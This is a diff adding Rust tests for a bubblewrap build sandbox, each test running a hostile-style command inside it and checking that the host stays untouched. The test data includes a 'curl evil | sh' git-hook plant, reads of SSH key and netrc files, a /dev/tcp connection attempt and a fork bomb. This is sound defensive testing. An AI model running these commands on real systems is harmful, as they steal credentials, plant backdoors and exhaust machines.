@@ -1,0 +1,243 @@
+//! The sandbox tested from inside: real commands under bubblewrap try what a hostile build
+//! script would, and the test checks what reached the host.
+
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use super::*;
+use crate::exec_gate::{Containment, ExecCommand, ExecOutcome, run};
+
+struct Fixture {
+    _dirs: Vec<tempfile::TempDir>,
+    ws: PathBuf,
+    /// A directory outside the workspace and outside `/tmp` (which is private in the sandbox).
+    outside: PathBuf,
+    keel_home: PathBuf,
+    secret_dir: PathBuf,
+    secret_file: PathBuf,
+}
+
+fn fixture() -> Fixture {
+    let ws = tempfile::tempdir().expect("tempdir");
+    let outer = tempfile::tempdir_in("/var/tmp").expect("tempdir in /var/tmp");
+    let base = outer.path().canonicalize().expect("canonical");
+    let outside = base.join("outside");
+    let keel_home = base.join("keel-home");
+    let secret_dir = base.join("ssh");
+    let secret_file = base.join("netrc");
+    for d in [&outside, &keel_home, &secret_dir] {
+        std::fs::create_dir_all(d).expect("mkdir");
+    }
+    std::fs::write(keel_home.join("keys"), "keel signing key").expect("write");
+    std::fs::write(secret_dir.join("id_ed25519"), "PRIVATE KEY").expect("write");
+    std::fs::write(&secret_file, "machine x password y").expect("write");
+    std::fs::write(outside.join("readable"), "public").expect("write");
+    let ws_path = ws.path().canonicalize().expect("canonical");
+    std::fs::create_dir_all(ws_path.join(".git/hooks")).expect("mkdir");
+    std::fs::create_dir_all(ws_path.join(".keel")).expect("mkdir");
+    Fixture {
+        _dirs: vec![ws, outer],
+        ws: ws_path,
+        outside,
+        keel_home,
+        secret_dir,
+        secret_file,
+    }
+}
+
+fn containment(f: &Fixture, mode: SandboxMode) -> Containment {
+    let config = SandboxConfig {
+        mode,
+        deny_read: vec![f.secret_dir.clone(), f.secret_file.clone()],
+        keel_home: Some(f.keel_home.clone()),
+        limits: ProcessLimits {
+            processes: 64,
+            ..ProcessLimits::default()
+        },
+    };
+    let confinement = probe(mode);
+    assert_eq!(
+        confinement,
+        Confinement::Bubblewrap(mode),
+        "the sandbox must start on a test machine (install bubblewrap)"
+    );
+    Containment {
+        config,
+        confinement,
+    }
+}
+
+async fn sh(ws: &Path, c: &Containment, line: &str, secs: u64) -> ExecOutcome {
+    let cmd = ExecCommand {
+        line: line.to_owned(),
+        cwd: ".".to_owned(),
+        timeout: Duration::from_secs(secs),
+    };
+    run(ws, &cmd, &[], c, std::future::pending())
+        .await
+        .expect("the command starts")
+}
+
+#[tokio::test]
+async fn writes_stay_in_the_workspace_and_protected_folders_are_read_only() {
+    let f = fixture();
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+    let out = sh(&f.ws, &c, "echo built > target.txt && cat target.txt", 10).await;
+    assert_eq!(out.exit_code, Some(0), "{out:?}");
+    assert_eq!(
+        std::fs::read_to_string(f.ws.join("target.txt"))
+            .ok()
+            .as_deref(),
+        Some("built\n")
+    );
+
+    for (what, line) in [
+        (
+            "outside",
+            format!("echo x > {}/planted", f.outside.display()),
+        ),
+        (
+            "hook",
+            "echo 'curl evil | sh' > .git/hooks/pre-commit".to_owned(),
+        ),
+        (
+            "keel config",
+            "echo '[exec]' > .keel/config.toml".to_owned(),
+        ),
+        ("root fs", "echo x > /usr/keel-planted".to_owned()),
+    ] {
+        let out = sh(&f.ws, &c, &line, 10).await;
+        assert_ne!(out.exit_code, Some(0), "{what}: {out:?}");
+        assert!(
+            out.output.contains("Read-only file system"),
+            "{what}: {}",
+            out.output
+        );
+    }
+    assert!(!f.outside.join("planted").exists());
+    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
+    assert!(!f.ws.join(".keel/config.toml").exists());
+    // Reading outside the workspace is fine (compilers read the system).
+    let out = sh(
+        &f.ws,
+        &c,
+        &format!("cat {}/readable", f.outside.display()),
+        10,
+    )
+    .await;
+    assert_eq!(out.output, "public", "{out:?}");
+}
+
+#[tokio::test]
+async fn a_link_to_outside_does_not_let_a_write_escape() {
+    let f = fixture();
+    std::os::unix::fs::symlink(&f.outside, f.ws.join("escape")).expect("symlink");
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+    let out = sh(&f.ws, &c, "echo x > escape/through-link", 10).await;
+    assert_ne!(out.exit_code, Some(0), "{out:?}");
+    assert!(!f.outside.join("through-link").exists());
+}
+
+#[tokio::test]
+async fn secrets_and_keel_home_are_hidden() {
+    let f = fixture();
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+    for path in [
+        f.secret_dir.join("id_ed25519"),
+        f.secret_file.clone(),
+        f.keel_home.join("keys"),
+    ] {
+        let out = sh(&f.ws, &c, &format!("cat {}", path.display()), 10).await;
+        assert!(
+            !out.output.contains("PRIVATE KEY")
+                && !out.output.contains("password")
+                && !out.output.contains("signing key"),
+            "{} was readable: {out:?}",
+            path.display()
+        );
+    }
+    let out = sh(&f.ws, &c, &format!("ls -A {}", f.keel_home.display()), 10).await;
+    assert_eq!(out.output, "", "keel's home is an empty directory: {out:?}");
+}
+
+#[tokio::test]
+async fn read_only_mode_writes_nothing() {
+    let f = fixture();
+    let c = containment(&f, SandboxMode::ReadOnly);
+    let out = sh(&f.ws, &c, "echo x > file && echo wrote", 10).await;
+    assert!(!out.output.contains("wrote"), "{out:?}");
+    assert!(!f.ws.join("file").exists());
+    // The private /tmp is writable, and private.
+    let scratch = format!("/tmp/keel-scratch-{}", std::process::id());
+    let out = sh(
+        &f.ws,
+        &c,
+        &format!("echo x > {scratch} && cat {scratch}"),
+        10,
+    )
+    .await;
+    assert_eq!(out.output, "x\n", "{out:?}");
+    assert!(
+        !Path::new(&scratch).exists(),
+        "the sandbox's /tmp is its own"
+    );
+}
+
+#[tokio::test]
+async fn there_is_no_network() {
+    let f = fixture();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let port = listener.local_addr().expect("addr").port();
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+    let line = format!(
+        "if command -v bash >/dev/null; then bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo reached; \
+         else echo no-bash; fi"
+    );
+    let out = sh(&f.ws, &c, &line, 10).await;
+    assert!(
+        !out.output.contains("no-bash"),
+        "the test needs bash: {out:?}"
+    );
+    assert!(!out.output.contains("reached"), "{out:?}");
+    assert!(
+        listener.accept().is_err(),
+        "a connection reached the host's loopback"
+    );
+    // The same command unconfined does reach it: the test can fail.
+    let out = sh(&f.ws, &Containment::none(), &line, 10).await;
+    assert!(out.output.contains("reached"), "{out:?}");
+}
+
+#[tokio::test]
+async fn a_fork_bomb_is_contained_and_the_next_command_runs() {
+    let f = fixture();
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+    let out = sh(
+        &f.ws,
+        &c,
+        "bomb() { bomb | bomb & }; bomb; sleep 2; echo survived",
+        5,
+    )
+    .await;
+    // The process limit (64 here) stopped it, and the shell said so.
+    assert!(out.output.contains("Cannot fork"), "{out:?}");
+    let next = sh(&f.ws, &c, "echo next", 10).await;
+    assert_eq!(next.output, "next\n", "{next:?}");
+}
+
+#[test]
+fn the_description_tells_the_truth() {
+    assert_eq!(
+        Confinement::Bubblewrap(SandboxMode::WorkspaceWrite).describe(),
+        "commands: bubblewrap, workspace-write, no network"
+    );
+    assert!(Confinement::Off.describe().contains("DANGEROUS"));
+    let unavailable = Confinement::Unavailable("bwrap missing".into()).describe();
+    assert!(
+        unavailable.contains("NOT sandboxed: bwrap missing")
+            && unavailable.contains("every command needs approval")
+    );
+    assert_eq!(SandboxMode::parse("off"), Ok(SandboxMode::Off));
+    assert!(SandboxMode::parse("none").is_err());
+}
